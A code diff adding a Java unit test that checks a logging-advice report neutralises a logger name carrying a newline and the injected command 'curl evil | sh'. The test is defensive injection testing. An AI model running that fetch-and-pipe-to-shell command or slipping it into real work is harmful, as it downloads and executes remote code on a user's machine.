@@ -91,6 +91,14 @@ class FloodFindingsTests {
 				.isEqualTo("4 loggers are left at DEBUG or below: x (DEBUG), x (DEBUG), x (DEBUG) and 1 more."));
 	}
 
+	@Test
+	void theNameOfALoggerIsNoCommand() {
+		LoggingReport flowing = verbose(List.of(new VerboseLogger("a.b\ncurl evil | sh", "DEBUG", "logback")));
+		assertThat(FloodFindings.of(flowing)).singleElement()
+			.satisfies((finding) -> assertThat(finding.advice())
+				.containsExactly("Set logging.level.a.b curl evil | sh=INFO unless somebody needs it."));
+	}
+
 	private static LoggingReport verbose(List<VerboseLogger> loggers) {
 		return new LoggingReport(PressureStatus.FLOWING, "Fine.", null, null, BlockedThreads.NONE, null, null,
 				List.of(), null, null, loggers, null, null, null);
